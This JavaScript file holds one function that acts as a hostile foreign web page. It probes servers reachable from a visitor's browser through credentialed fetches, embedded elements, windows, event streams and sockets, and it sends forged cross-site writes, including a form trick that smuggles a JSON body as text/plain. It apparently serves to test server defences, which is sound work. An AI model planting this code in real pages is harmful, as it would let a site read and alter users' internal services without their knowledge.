// What a foreign page tries against servers that its visitor's browser can reach. It returns
// whatever it could see of them: the way, the address, the status where there is one, and text.
async function attack(readable, writable, events, sockets) {
  const seen = [];
  const note = (how, url, status, text) => seen.push({ how, url, status, text: String(text).slice(0, 300) });
  const tries = [];
  const within = start => tries.push(new Promise(done => { setTimeout(done, 4000); start(done); }));
  const element = (kind, set, url, text) => within(done => {
    const e = document.createElement(kind);
    e.onload = () => { const t = text(e); if (t !== null) note(kind, url, 0, t); done(); };
    e.onerror = done;
    set(e);
    document.body.append(e);
  });

  for (const url of readable) {
    for (const mode of ['cors', 'no-cors', 'same-origin']) {
      within(done => fetch(url, { mode, credentials: 'include', cache: 'no-store' })
        .then(async r => { const text = await r.text(); if (r.type !== 'opaque' || text) note('fetch ' + mode, url, r.status, text); })
        .catch(() => {}).finally(done));
    }
    within(done => {
      const x = new XMLHttpRequest();
      x.onload = () => { note('request', url, x.status, x.responseText); done(); };
      x.onerror = done;
      x.open('GET', url);
      x.withCredentials = true;
      x.send();
    });
    element('img', e => { e.src = url; }, url, e => e.naturalWidth + ' pixels');
    element('script', e => { e.src = url; }, url, () => 'executed');
    element('link', e => { e.rel = 'stylesheet'; e.href = url; }, url, () => 'applied');
    element('iframe', e => { e.src = url; }, url, e => {
      try { return e.contentDocument && e.contentDocument.body.innerText || null; } catch { return null; }
    });
    within(done => {
      const w = window.open(url);
      setTimeout(() => {
        try { if (w.location.href !== 'about:blank') note('window', url, 0, w.document.body.innerText); } catch { /* of another origin */ }
        if (w) w.close();
        done();
      }, 2000);
    });
  }
  for (const url of events) {
    within(done => {
      const e = new EventSource(url, { withCredentials: true });
      e.onopen = () => note('events', url, 0, 'open');
      e.onmessage = m => note('events', url, 0, m.data);
      e.onerror = () => { e.close(); done(); };
    });
  }
  for (const url of sockets) {
    within(done => {
      const s = new WebSocket(url);
      s.onopen = () => { note('socket', url, 0, 'open'); s.close(); };
      s.onclose = done;
    });
  }
  for (const { method, url, body } of writable) {
    for (const mode of ['cors', 'no-cors']) {
      for (const type of ['application/json', 'text/plain', 'application/x-www-form-urlencoded']) {
        within(done => fetch(url, { method, mode, body, headers: { 'Content-Type': type }, credentials: 'include' })
          .then(async r => { const text = await r.text(); if (r.type !== 'opaque') note(method + ' ' + mode + ' ' + type, url, r.status, text); })
          .catch(() => {}).finally(done));
      }
    }
    if (method === 'POST') {
      navigator.sendBeacon(url, body);
      for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
        within(done => {
          const frame = document.createElement('iframe');
          frame.name = 'f' + Math.random();
          frame.onload = done;
          document.body.append(frame);
          const form = document.createElement('form');
          Object.assign(form, { method, action: url, enctype, target: frame.name });
          const field = document.createElement('input');
          // With text/plain the name and the value, with = between them, are the body.
          [field.name, field.value] = [body.slice(0, -1) + ',"x":"', '"}'];
          form.append(field);
          document.body.append(form);
          form.submit();
        });
      }
    }
  }
  await Promise.all(tries);
  return seen;
}
